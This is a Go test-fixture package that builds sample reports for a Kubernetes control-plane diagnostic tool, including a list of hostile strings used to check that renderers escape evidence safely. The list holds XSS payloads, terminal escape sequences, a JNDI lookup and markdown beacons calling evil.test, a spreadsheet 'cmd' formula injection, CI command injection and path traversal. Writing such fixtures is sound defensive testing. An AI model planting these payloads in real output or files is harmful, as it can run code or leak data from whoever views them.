// Package reporttest makes reports for the tests of the formats: an empty one,
// one of every outcome, one full of hostile strings, a big one, and the sample
// of a three-node cluster after half a restore.
package reporttest

import (
	"strings"
	"time"

	"coldplane/report"
)

// AsOf is the time that judges every report made here.
var asOf = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

// AsOf is the time that judges the reports made here.
func AsOf() time.Time { return asOf }

func at(minutes float64) time.Time {
	return asOf.Add(time.Duration(minutes * float64(time.Minute)))
}

func ptr[T any](v T) *T { return &v }

// Empty is the report of an analysis that had nothing to say.
func Empty() *report.Report {
	return &report.Report{
		APIVersion: report.APIVersion, Kind: report.Kind, Tool: report.Tool{Name: "coldplane", Version: "test"},
		Inputs: []report.Input{}, Findings: []report.Finding{}, Results: []report.Result{}, Facts: map[string]any{}, Timeline: []report.Event{},
		Verdict: report.Verdict{
			State: report.StateHealthy, Summary: "Nothing wrong found.", Control: report.PlaneUnknown, UserPlane: report.PlaneUnknown,
			Chain: []report.ChainLink{}, Candidates: []report.Candidate{}, Collect: []report.Collect{},
		},
	}
}

// Outcomes is a report with a result of every outcome, a finding of every
// severity and confidence, and a waived one.
func Outcomes() *report.Report {
	r := Empty()
	r.AsOf, r.AsOfSource = ptr(asOf), "given"
	r.Verdict.State, r.Verdict.Summary = report.StateUndetermined, "Several things are wrong."
	r.Inputs = []report.Input{{ID: "b1", Path: "cp1.tar.zst", Format: "coldplane bundle", Node: "cp1", State: "intact", SHA256: strings.Repeat("ab", 32)}}
	conf := []report.Confidence{report.Certain, report.Probable, report.Possible}
	for i, s := range report.Severities() {
		id := []string{"CAP101", "DIR102", "PKI101", "QRM101", "STA101"}[i]
		r.Findings = append(r.Findings, finding(id, "cp1", "subject", s, conf[i%3], "something is wrong"))
		r.Results = append(r.Results, report.Result{Rule: id, Subject: "cp1", Outcome: report.Fail, Gaps: []report.Gap{}})
	}
	w := finding("PKI102", "cp1", "apiserver.crt", report.Medium, report.Certain, "apiserver.crt expires in 12 days")
	w.Waiver = &report.Waiver{Reason: "renewed by the change of next week", Expires: "2026-04-01"}
	r.Suppressed = []report.Finding{w}
	gap := report.Gap{Evidence: "etcd.wal", Node: "cp1", Reason: "not-collected", Detail: "no write-ahead log in the bundle"}
	for _, x := range []struct {
		rule string
		o    report.Outcome
	}{{"STA102", report.Pass}, {"QRM112", report.Unknown}, {"EXT101", report.NotApplicable}, {"PKI102", report.Suppressed}, {"CAP114", report.Errored}} {
		res := report.Result{Rule: x.rule, Subject: "cp1", Outcome: x.o, Gaps: []report.Gap{}}
		switch x.o {
		case report.Unknown:
			res.Gaps = append(res.Gaps, gap)
		case report.NotApplicable:
			res.Detail = "etcd is stacked"
		case report.Errored:
			res.Detail = "a defect of the rule"
		}
		r.Results = append(r.Results, res)
	}
	r.Verdict.Collect = []report.Collect{{What: "etcd's write-ahead log", Command: "coldplane collect --etcd full"}}
	r.Sort()
	return r
}

func finding(rule, node, subject string, s report.Severity, c report.Confidence, msg string) report.Finding {
	return report.Finding{
		ID: report.FindingID(rule, node, subject), Rule: rule, Name: strings.ToLower(rule) + "-name", Severity: s, Confidence: c,
		Node: node, Subject: subject, Title: "What rule " + rule + " is about", Message: msg,
		Evidence:   []report.Evidence{{Input: "b1", Node: node, Path: "etc/kubernetes/manifests/etcd.yaml", Line: 20, Excerpt: "value: seen", Role: report.RoleSubject}},
		Fix:        []report.Step{{Text: "Do this", Command: "true"}},
		References: []string{"https://kubernetes.io/docs/"}, Explains: []string{}, ExplainedBy: []string{},
	}
}

// HostileStrings are what evidence may hold to attack whoever shows it.
func HostileStrings() []string {
	return []string{
		"\x1b[2J\x1b[31mred\x1b]52;c;ZXZpbA==\x07",
		"\x1b]8;;http://evil.test/\x1b\\link\x1b]8;;\x1b\\",
		"c1 \u009b31m \u009d52;c;x\u009c end",
		"carriage\rreturn \b\b back \x00 nul \x7f del",
		"line\nbreak\u2028sep\u2029par",
		"bidi \u202etxt.exe\u202c \u2066iso\u2069 \u200b\ufeff",
		"bad utf8 \xff\xfe\xc3",
		"<script>alert(1)</script><img src=x onerror=alert(1)>",
		"\"><svg onload=alert(1)> ' onmouseover='x",
		"</style></script></title></textarea><!-- --><![CDATA[ ]]>",
		"javascript:alert(1)", "data:text/html,<script>1</script>",
		"![beacon](http://evil.test/x.png) [link](http://evil.test) <http://evil.test>",
		"``` \n# heading\n| a | b |\n~~~", "`code` ``two`` ```three```", "http://evil.test/auto www.evil.test @user #123",
		"[ref]: http://evil.test 'title'", "&lt;b&gt; &#x1b; &amp;",
		"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1",
		"::error file=a,line=1::boom", "##vso[task.setvariable variable=x]y", "##[error]x", "text ::set-output name=a::b",
		"{{.Secret}} {{template \"x\"}} ${jndi:ldap://evil.test}", "%s%n%d %!v(BADVERB)",
		"../../../../etc/passwd", "C:\\windows\\system32", "노드-하나 控制面 ノード 👩‍👩‍👧",
		strings.Repeat("a", 4000), strings.Repeat("한", 4000),
	}
}

// Hostile is a report whose every string that comes from evidence is hostile.
func Hostile() *report.Report {
	r := Outcomes()
	hs := HostileStrings()
	n := 0
	next := func() string { n++; return hs[n%len(hs)] }
	r.Findings = nil
	for i, h := range hs {
		f := report.Finding{
			ID: report.FindingID("DIR102", h, h), Rule: "DIR102", Name: "name", Severity: report.Severities()[i%5], Confidence: report.Probable,
			Node: h, Subject: h, Title: h, Message: h, Explains: []string{}, ExplainedBy: []string{}, References: []string{h, "https://kubernetes.io/"},
			Fix: []report.Step{{Text: h, Command: h}, {Text: next(), Command: next()}},
		}
		f.Evidence = []report.Evidence{
			{Input: h, Node: h, Path: h, Line: 3, Pointer: h, Excerpt: h, Role: report.RoleSubject},
			{Input: "b1", Path: next(), Key: h, Revision: 7, Excerpt: next(), Role: report.RoleExpected},
		}
		r.Findings = append(r.Findings, f)
		r.Results = append(r.Results, report.Result{Rule: "DIR102", Subject: h, Outcome: report.Unknown, Detail: h, Gaps: []report.Gap{{Evidence: h, Node: h, Reason: h, Detail: h}}})
		r.Inputs = append(r.Inputs, report.Input{ID: h, Path: h, Format: h, Node: h, State: h, Detail: h, Refused: []report.Refusal{{Name: h, Why: h}}})
		r.Timeline = append(r.Timeline, report.Event{Time: at(float64(i)), Node: h, Source: h, Text: h, Kind: report.EventMark, Ref: &f.Evidence[0], Finding: f.ID})
		w := f
		w.Waiver = &report.Waiver{Reason: h, Expires: h}
		r.Suppressed = append(r.Suppressed, w)
		r.Verdict.Candidates = append(r.Verdict.Candidates, report.Candidate{Finding: f.ID, Score: 1, Decides: h})
		r.Verdict.Chain = append(r.Verdict.Chain, report.ChainLink{Finding: f.ID, Because: h})
		r.Verdict.Collect = append(r.Verdict.Collect, report.Collect{What: h, Command: h})
		r.Verdict.Do = append(r.Verdict.Do, report.Step{Text: h, Command: h})
		r.Verdict.DoNot = append(r.Verdict.DoNot, h)
	}
	r.Verdict.State, r.Verdict.Summary, r.Verdict.Headline = report.StateCause, hs[7]+hs[0]+hs[26], ptr(r.Findings[0].ID)
	r.Verdict.Control, r.Verdict.UserPlane, r.Verdict.ChainName = hs[7], hs[0], hs[8]
	r.Facts = hostileFacts(hs)
	return r
}

func hostileFacts(hs []string) map[string]any {
	var m report.Matrix
	var members []report.Member
	var certs []report.Certificate
	var inv []report.NodeInventory
	var versions []report.Version
	st := report.Store{Size: 1 << 20, InUse: 1 << 19, Free: 1 << 19, Live: 1 << 18, History: 1 << 18, QuotaSource: hs[7], Node: hs[0], Member: hs[8], Path: hs[7], Damage: hs[7], Version: hs[7]}
	q := report.Quorum{State: hs[7], Text: hs[7], Voters: 3, Need: 2, Source: hs[0]}
	for i, h := range hs {
		ev := []report.Evidence{{Input: h, Node: h, Path: h, Excerpt: h}}
		m.Rows = append(m.Rows, report.MatrixRow{Plane: []string{"control", "user", h}[i%3], Subject: h, Name: h, State: []string{report.Alive, report.Dead, h}[i%3], Text: h, Evidence: ev})
		members = append(members, report.Member{ID: h, Name: h, Node: h, Domain: h, PeerURLs: []string{h}, ClientURLs: []string{h}, State: h, Why: h, Version: h, Source: h})
		certs = append(certs, report.Certificate{Node: h, Path: h, Origin: h, Role: h, Subject: h, Issuer: h, SANs: []string{h}, UsedBy: []string{h}, NotBefore: at(-1000), NotAfter: at(float64(i*9999 - 9999)), Chain: h, ChainWhy: h, KeyMatch: h})
		inv = append(inv, report.NodeInventory{Node: h, Roles: []string{h}, Inputs: []string{h}, DataDir: h, AsOfDetail: h, Components: []report.Component{{Name: h, Version: h, Path: h}}})
		versions = append(versions, report.Version{Node: h, Component: h, Version: h, Source: h, Path: h, Note: h})
		st.Types = append(st.Types, report.StoreType{Type: h, Live: int64(i+1) * 5000, History: 3000, Objects: 4, Namespaces: []report.StoreNamespace{{Namespace: h, Live: 3000}}})
		st.Largest = append(st.Largest, report.StoreKey{Key: h, Size: 5})
		st.Hot = append(st.Hot, report.StoreKey{Key: h, Size: 5, Revisions: 9})
		st.Alarms = append(st.Alarms, report.Alarm{Member: h, Type: h})
		q.Losses = append(q.Losses, report.Loss{Lost: i, Quorum: h, Text: h})
		q.Domains = append(q.Domains, report.Domain{Name: h, Members: []string{h}, Quorum: h})
	}
	return map[string]any{
		report.FactMatrix: m, report.FactMembers: members, report.FactQuorum: q, report.FactStore: []report.Store{st}, report.FactCertificates: certs,
		report.FactInventory: inv, report.FactVersions: versions, report.FactBanner: report.Banner{Text: hs[7]},
		report.FactTopology: report.Topology{KubernetesVersion: hs[7], ControlPlaneEndpoint: hs[8], Etcd: hs[0], Source: hs[9], EtcdEndpoints: hs},
		report.FactIncident: report.Incident{From: at(1), To: at(20), Why: hs[7]},
	}
}
